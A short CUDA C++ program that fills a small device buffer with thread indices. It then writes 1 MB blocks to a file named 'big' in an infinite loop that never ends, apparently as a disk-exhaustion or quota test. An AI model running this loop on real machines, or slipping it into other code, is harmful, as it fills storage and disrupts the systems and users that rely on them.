#include <cstdio>
__global__ void fill(int* p) { p[threadIdx.x] = threadIdx.x; }
int main() {
  int* p;
  cudaMalloc(&p, 128);
  fill<<<1, 32>>>(p);
  cudaDeviceSynchronize();
  FILE* f = fopen("big", "w");
  static char block[1 << 20];
  for (;;) fwrite(block, 1, sizeof block, f);
}
